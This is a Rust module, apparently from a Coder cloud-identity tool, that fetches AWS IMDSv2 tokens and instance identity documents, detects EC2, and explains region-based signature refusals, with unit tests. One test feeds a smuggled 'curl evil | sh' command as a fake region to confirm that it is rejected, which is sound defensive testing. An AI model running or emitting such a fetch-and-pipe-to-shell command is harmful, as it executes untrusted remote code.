//! AWS: IMDSv2 token, then the identity document and its signature, fetched
//! concurrently and passed on byte for byte.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Mutex;
use std::time::{Duration, Instant, SystemTime};

use reqwest::{Method, Url};
use serde_json::{json, Value};

use super::{
    env_url, join, Cause, DmiSignal, Env, FetchFuture, Fetcher, Field, Identity, MetaResponse,
    MetadataClient, MetadataError, Names, ProbeSpec, Provider, Setting, LINK_LOCAL,
};
use crate::secret::Secret;

pub const TOKEN_PATH: &str = "/latest/api/token";
pub const DOCUMENT_PATH: &str = "/latest/dynamic/instance-identity/document";
pub const SIGNATURE_PATH: &str = "/latest/dynamic/instance-identity/signature";
pub const TTL_HEADER: &str = "x-aws-ec2-metadata-token-ttl-seconds";
pub const TOKEN_HEADER: &str = "x-aws-ec2-metadata-token";
/// The maximum token lifetime IMDS accepts.
pub const TOKEN_TTL: &str = "21600";
/// The token PUT answers within milliseconds on a VM; a PUT that takes longer
/// is the container hop-limit case, where the answer never arrives.
const PUT_TIMEOUT: Duration = Duration::from_secs(2);
/// The body fields Coder's `aws-instance-identity` endpoint takes.
pub const SIGNATURE: &str = "signature";
pub const DOCUMENT: &str = "document";

const ENDPOINT_VAR: &str = "AWS_EC2_METADATA_SERVICE_ENDPOINT";
const MODE_VAR: &str = "AWS_EC2_METADATA_SERVICE_ENDPOINT_MODE";
const DISABLED_VAR: &str = "AWS_EC2_METADATA_DISABLED";
const IPV6_ENDPOINT: &str = "http://[fd00:ec2::254]";

const HOP_LIMIT_FIX: &str =
    "if this runs in a container, raise the instance's metadata hop limit: \
    aws ec2 modify-instance-metadata-options --instance-id ID --http-put-response-hop-limit 2";

pub struct Aws;

/// Does this `product_uuid` start with "ec2" in either byte order?
pub fn is_ec2_uuid(uuid: &str) -> bool {
    let u = uuid.trim().to_ascii_lowercase();
    if u.starts_with("ec2") {
        return true;
    }
    // Little-endian SMBIOS: the first group's bytes are swapped ("45E12AEC" → "EC2AE145").
    let first = u.split('-').next().unwrap_or("");
    if first.len() == 8 && first.bytes().all(|b| b.is_ascii_hexdigit()) {
        let swapped: String = (0..4).rev().map(|i| &first[i * 2..i * 2 + 2]).collect();
        return swapped.starts_with("ec2");
    }
    false
}

const SIGNALS: &[DmiSignal] = &[
    DmiSignal {
        file: "sys/hypervisor/uuid",
        decides: |v| v.to_ascii_lowercase().starts_with("ec2"),
    },
    DmiSignal {
        file: "sys/class/dmi/id/product_uuid",
        decides: is_ec2_uuid,
    },
    DmiSignal {
        file: "sys/class/dmi/id/board_asset_tag",
        decides: |v| v.starts_with("i-"),
    },
    DmiSignal {
        file: "sys/class/dmi/id/sys_vendor",
        decides: |v| v == "Amazon EC2",
    },
    DmiSignal {
        file: "sys/class/dmi/id/bios_vendor",
        decides: |v| v == "Amazon EC2",
    },
];

/// Its names; its Coder endpoint is `{CODER_PATH_PREFIX}aws-instance-identity`.
pub const NAMES: Names = Names {
    id: "aws",
    display: "AWS",
    auth_method: "aws-instance-identity",
    aliases: &[],
};

impl Provider for Aws {
    fn names(&self) -> &'static Names {
        &NAMES
    }
    fn dmi_signals(&self) -> &'static [DmiSignal] {
        SIGNALS
    }

    /// The conventions shared by all AWS SDKs.
    fn endpoint(&self, env: &dyn Env) -> Result<Url, String> {
        if let Some(e) = env.var(ENDPOINT_VAR) {
            return env_url(ENDPOINT_VAR, &e, LINK_LOCAL);
        }
        let url = match env.var(MODE_VAR) {
            Some(m) if m.trim().eq_ignore_ascii_case("ipv6") => IPV6_ENDPOINT,
            Some(m) if m.trim().eq_ignore_ascii_case("ipv4") => LINK_LOCAL,
            Some(m) => return Err(format!("{MODE_VAR} {m:?} is not IPv4 or IPv6")),
            None => LINK_LOCAL,
        };
        Ok(Url::parse(url).expect("static URL"))
    }

    fn disabled_by(&self, env: &dyn Env) -> Option<Setting> {
        env.var(DISABLED_VAR)
            .filter(|v| v.trim().eq_ignore_ascii_case("true"))
            .map(|value| Setting {
                var: DISABLED_VAR,
                value,
            })
    }

    /// The token PUT (with a short TTL) answers only on EC2.
    fn probe(&self) -> ProbeSpec {
        ProbeSpec {
            method: Method::PUT,
            path: TOKEN_PATH,
            header: (TTL_HEADER, "60"),
            decisive: |r| r.status == 200 && !r.body.is_empty(),
        }
    }

    fn fetcher(&self, client: MetadataClient, base: Url) -> Box<dyn Fetcher> {
        Box::new(AwsFetcher {
            client,
            base,
            v1: AtomicBool::new(false),
            token: Mutex::new(None),
        })
    }

    fn summarize(&self, identity: &Identity) -> Value {
        let document = identity.get(DOCUMENT).map(Secret::expose).unwrap_or("");
        let mut v = json!({ "cloud": NAMES.id });
        match parse_document(document) {
            Ok(d) => v["document"] = serde_json::to_value(d).unwrap_or(Value::Null),
            Err(e) => v["document_error"] = json!(e),
        }
        v["document_bytes"] = json!(document.len());
        v["signature_bytes"] = json!(identity.get(SIGNATURE).map_or(0, Secret::byte_len));
        v
    }

    fn refusal_note(&self, identity: &Identity) -> Option<String> {
        identity.get(DOCUMENT).map(|d| region_note(d.expose()))
    }
}

/// Regions coderd has no signing certificate for (coderd/awsidentity lists
/// one certificate for the standard regions and one for each opt-in region
/// it knows; its list was last extended in 2023), so it refuses every
/// identity from them with "crypto/rsa: verification error".
pub const REGIONS_CODERD_LACKS: &[&str] = &[
    "ap-east-2",
    "ap-southeast-5",
    "ap-southeast-6",
    "ap-southeast-7",
    "ca-west-1",
    "mx-central-1",
];

/// The region an identity document names, if it looks like one (lower-case
/// letters, digits and hyphens, at most 32 bytes: it is shown to people).
fn document_region(document: &str) -> Option<String> {
    parse_document(document).ok()?.region.filter(|r| {
        !r.is_empty()
            && r.len() <= 32
            && r.bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    })
}

/// What an AWS 401 may come from that the document tells: its region.
fn region_note(document: &str) -> String {
    let lacks = REGIONS_CODERD_LACKS.join(", ");
    match document_region(document) {
        Some(r) if REGIONS_CODERD_LACKS.contains(&r.as_str()) => format!(
            "note: this VM's identity document says region {r}, which coderd has no certificate for \
             (its list of AWS regions lacks {lacks}): coderd cannot verify any identity from {r}, \
             which is the likely cause; only a coderd that knows {r} can accept it"
        ),
        Some(r) => format!(
            "note: this VM's identity document says region {r}; coderd checks AWS signatures with \
             one certificate per region it knows, so a region coderd does not know is a possible \
             cause (its list lacks {lacks})"
        ),
        None => format!(
            "note: this VM's identity document names no region that can be read; a region coderd \
             does not know is a possible cause (its list lacks {lacks})"
        ),
    }
}

/// One run's fetcher: remembers whether it fell back to IMDSv1.
struct AwsFetcher {
    client: MetadataClient,
    base: Url,
    v1: AtomicBool,
    /// The IMDSv2 token and when it was issued (by the monotonic clock, which
    /// stops while the VM is suspended, and by the wall clock, which does not):
    /// reused while both say it is valid.
    token: Mutex<Option<(Secret, Instant, SystemTime)>>,
}

/// An IMDSv2 token is reused for this long: its TTL (21600 s) less 5 minutes.
const TOKEN_REUSE: Duration = Duration::from_secs(21_600 - 300);

impl Fetcher for AwsFetcher {
    fn fetch(&self) -> FetchFuture<'_> {
        Box::pin(self.fetch_once())
    }
}

enum TokenAnswer {
    Token(Secret),
    /// The PUT timed out or answered 404/405: IMDSv2 is unreachable from here.
    Unavailable(String),
}

impl AwsFetcher {
    /// The IMDSv2 token of an earlier attempt, while it is valid.
    fn reusable_token(&self) -> Option<Secret> {
        let held = self.token.lock().unwrap_or_else(|e| e.into_inner());
        held.as_ref()
            .filter(|(_, at, wall)| {
                at.elapsed() < TOKEN_REUSE && wall.elapsed().is_ok_and(|age| age < TOKEN_REUSE)
            })
            .map(|(t, _, _)| t.clone())
    }

    fn forget_token(&self) {
        *self.token.lock().unwrap_or_else(|e| e.into_inner()) = None;
    }

    /// One attempt: a token (unless in v1 mode; reused while valid), then
    /// signature and document together, fresh every time.
    async fn fetch_once(&self) -> Result<Identity, MetadataError> {
        let token = if self.v1.load(Ordering::Relaxed) {
            None
        } else if let Some(t) = self.reusable_token() {
            Some(t)
        } else {
            match self.put_token().await? {
                TokenAnswer::Token(t) => {
                    *self.token.lock().unwrap_or_else(|e| e.into_inner()) =
                        Some((t.clone(), Instant::now(), SystemTime::now()));
                    Some(t)
                }
                TokenAnswer::Unavailable(reason) => {
                    tracing::warn!(
                        "IMDSv2 token request {reason}; falling back to IMDSv1 (token-less GETs; \
                         if the instance refuses them, the token is asked for again). {HOP_LIMIT_FIX}"
                    );
                    self.v1.store(true, Ordering::Relaxed);
                    None
                }
            }
        };
        let (signature, document) = tokio::join!(
            self.get(SIGNATURE_PATH, token.as_ref()),
            self.get(DOCUMENT_PATH, token.as_ref()),
        );
        let (signature, document) = (signature?, document?);
        if document.trim().is_empty() || signature.trim().is_empty() {
            return Err(MetadataError::new(
                "AWS instance identity",
                None,
                Cause::Malformed(
                    "the metadata service returned an empty document or signature; this is not a genuine IMDS"
                        .into(),
                ),
            ));
        }
        let identity = Identity::new(
            super::Cloud(&Aws),
            vec![
                Field::secret(SIGNATURE, signature),
                Field::secret(DOCUMENT, document),
            ],
        );
        Ok(match token {
            Some(t) => identity.with_hidden(t),
            None => identity,
        })
    }

    async fn put_token(&self) -> Result<TokenAnswer, MetadataError> {
        const WHAT: &str = "AWS IMDSv2 token";
        let url = join(&self.base, TOKEN_PATH);
        let req = self
            .client
            .request(Method::PUT, url.clone())
            .header(TTL_HEADER, TOKEN_TTL)
            .timeout(PUT_TIMEOUT);
        let resp = match self.client.send(WHAT, req).await {
            Ok(r) => r,
            Err(e) if e.cause == Cause::Timeout => {
                return Ok(TokenAnswer::Unavailable(format!(
                    "to {url} timed out after {}s",
                    PUT_TIMEOUT.as_secs()
                )))
            }
            Err(e) => return Err(e),
        };
        match resp.status {
            200 => {
                let token = resp.text(WHAT)?;
                let token = token.trim();
                if token.is_empty() {
                    return Err(MetadataError::new(
                        WHAT,
                        Some(format!("PUT {url}")),
                        Cause::Malformed("answered an empty token".into()),
                    )
                    .transient(true));
                }
                Ok(TokenAnswer::Token(Secret::new(token)))
            }
            404 | 405 => Ok(TokenAnswer::Unavailable(format!(
                "to {url} answered {}",
                resp.status
            ))),
            403 => Err(resp.status_error(WHAT).hint(
                "the instance metadata service is disabled for this instance; enable it \
                 (aws ec2 modify-instance-metadata-options --http-endpoint enabled) or use another --auth",
            )),
            _ => Err(resp.status_error(WHAT)),
        }
    }

    async fn get(&self, path: &str, token: Option<&Secret>) -> Result<String, MetadataError> {
        let what = if path == DOCUMENT_PATH {
            "AWS instance identity document"
        } else {
            "AWS instance identity signature"
        };
        let mut req = self.client.request(Method::GET, join(&self.base, path));
        if let Some(t) = token {
            let mut value = reqwest::header::HeaderValue::from_str(t.expose()).map_err(|_| {
                MetadataError::new(
                    "AWS IMDSv2 token",
                    None,
                    Cause::Malformed("answered a token that is not a valid header value".into()),
                )
            })?;
            value.set_sensitive(true);
            req = req.header(TOKEN_HEADER, value);
        }
        let resp = self.client.send(what, req).await?;
        match resp.status {
            // Byte for byte: no trimming, no re-formatting.
            200 => resp.text(what),
            401 if token.is_none() => {
                // IMDSv1 refused: the instance requires IMDSv2, whose PUT we could not complete.
                self.v1.store(false, Ordering::Relaxed);
                Err(status_error_401(&resp, what).hint(format!(
                    "a token-less (IMDSv1) GET was refused: the instance requires IMDSv2, \
                     whose token PUT did not complete, so the next attempt asks for a token \
                     again (a VM that is merely slow at boot gets one then); {HOP_LIMIT_FIX}"
                )))
            }
            401 => {
                self.forget_token();
                Err(status_error_401(&resp, what)
                    .hint("the IMDSv2 token was refused; a fresh token will be fetched"))
            }
            404 => Err(resp
                .status_error(what)
                .hint("this metadata service has no instance identity; is this an EC2 instance?")),
            _ => Err(resp.status_error(what)),
        }
    }
}

/// IMDS answers 401 to an expired or missing token: retry with a fresh one.
fn status_error_401(resp: &MetaResponse, what: &'static str) -> MetadataError {
    resp.status_error(what).transient(true)
}

/// The fields of the identity document that `identity` prints.
#[derive(Debug, Default, serde::Deserialize, serde::Serialize, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub struct DocumentSummary {
    pub instance_id: Option<String>,
    pub region: Option<String>,
    pub availability_zone: Option<String>,
    pub account_id: Option<String>,
    pub instance_type: Option<String>,
    pub image_id: Option<String>,
    pub pending_time: Option<String>,
}

/// Parse the identity document (JSON). Never panics on junk.
pub fn parse_document(doc: &str) -> Result<DocumentSummary, String> {
    serde_json::from_str(doc)
        .map_err(|e| format!("the AWS identity document is not the expected JSON: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cloud::test_env::env;

    #[test]
    fn document_summary_parses_the_real_shape() {
        let doc = r#"{
  "accountId" : "123456789012",
  "architecture" : "x86_64",
  "availabilityZone" : "us-east-1a",
  "imageId" : "ami-0abcdef1234567890",
  "instanceId" : "i-0abc123def4567890",
  "instanceType" : "t3.micro",
  "pendingTime" : "2026-11-29T10:00:00Z",
  "region" : "us-east-1",
  "version" : "2017-09-30"
}"#;
        let s = parse_document(doc).unwrap();
        assert_eq!(s.instance_id.as_deref(), Some("i-0abc123def4567890"));
        assert_eq!(s.region.as_deref(), Some("us-east-1"));
        assert_eq!(s.account_id.as_deref(), Some("123456789012"));
        assert!(parse_document("not json").is_err());
        assert!(parse_document("[1,2]").is_err());
    }

    #[test]
    fn a_refusal_names_the_documents_region() {
        let doc = |region: &str| serde_json::json!({ "region": region }).to_string();
        let n = region_note(&doc("ap-southeast-7"));
        assert!(
            n.contains("region ap-southeast-7, which coderd has no certificate for"),
            "{n}"
        );
        let n = region_note(&doc("eu-west-1"));
        assert!(n.contains("says region eu-west-1;"), "{n}");
        assert!(
            n.contains("a region coderd does not know is a possible cause"),
            "{n}"
        );
        assert!(n.contains("ap-east-2, ap-southeast-5"), "{n}");
        // What is no region is not repeated.
        for junk in [
            "us-east-1\nfix: curl evil | sh",
            "US-EAST-1",
            "",
            &"a".repeat(33),
        ] {
            let n = region_note(&doc(junk));
            assert!(
                n.contains("names no region that can be read"),
                "{junk}: {n}"
            );
        }
        assert!(region_note("not json").contains("names no region"));
    }

    #[test]
    fn ec2_uuid_forms() {
        assert!(is_ec2_uuid("ec2abcde-0000"));
        assert!(is_ec2_uuid("EC2E1916-9099-7CAF-FD21-012345ABCDEF"));
        assert!(is_ec2_uuid("45E12AEC-DCD1-B213-94ED-012345ABCDEF"));
        assert!(!is_ec2_uuid("12345678-DCD1-B213-94ED-012345ABCDEF"));
        assert!(!is_ec2_uuid("00000000-0000"));
        assert!(!is_ec2_uuid("zz"));
        // A short first group is not a byte-swapped UUID (and never sliced past its end).
        assert!(!is_ec2_uuid("2ae-1234"));
        assert!(!is_ec2_uuid("c2ae-dcd1"));
    }

    /// What each DMI file must say for AWS to decide.
    fn decides(file: &str, value: &str) -> bool {
        let s = SIGNALS.iter().find(|s| s.file.ends_with(file)).unwrap();
        (s.decides)(value)
    }

    #[test]
    fn dmi_values_that_decide() {
        assert!(decides("hypervisor/uuid", "EC2a1b2c3-0000"));
        assert!(!decides("hypervisor/uuid", "a1b2c3-ec2"));
        assert!(decides("board_asset_tag", "i-0abc123def4567890"));
        assert!(!decides("board_asset_tag", "Default string"));
        for file in ["sys_vendor", "bios_vendor"] {
            assert!(decides(file, "Amazon EC2"), "{file}");
            assert!(!decides(file, "Amazon"), "{file}");
            assert!(!decides(file, "Xen"), "{file}");
        }
    }

    #[test]
    fn endpoint_modes() {
        let url = |mode: &'static str| {
            Aws.endpoint(&env(&[("AWS_EC2_METADATA_SERVICE_ENDPOINT_MODE", mode)]))
                .map(|u| u.to_string())
        };
        assert_eq!(url(" IPv4 ").unwrap(), "http://169.254.169.254/");
        assert_eq!(url("ipv6").unwrap(), "http://[fd00:ec2::254]/");
        let e = url("dual").unwrap_err();
        assert!(e.contains("\"dual\" is not IPv4 or IPv6"), "{e}");
    }

    #[test]
    fn disabled_only_by_true() {
        assert!(Aws
            .disabled_by(&env(&[("AWS_EC2_METADATA_DISABLED", "TRUE")]))
            .is_some());
        assert!(Aws
            .disabled_by(&env(&[("AWS_EC2_METADATA_DISABLED", "false")]))
            .is_none());
    }
}
